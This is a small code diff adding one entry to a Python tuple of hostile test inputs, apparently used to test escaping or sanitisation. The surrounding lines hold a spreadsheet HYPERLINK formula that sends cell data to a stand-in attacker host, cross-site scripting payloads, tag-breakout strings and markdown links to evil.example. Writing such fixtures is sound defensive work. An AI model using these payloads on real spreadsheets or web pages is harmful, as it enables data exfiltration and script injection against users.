@@ -45,6 +45,7 @@ HOSTILE: Final = (
     "w" * 10_000,
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "<r><t>run</t></r>",
     "</style></title></svg></textarea>-->",
     "[link](http://evil.example) ![i](http://evil.example/i.png) | pipe | `code`",
     "http://evil.example www.evil.example a@evil.example @everyone #12",
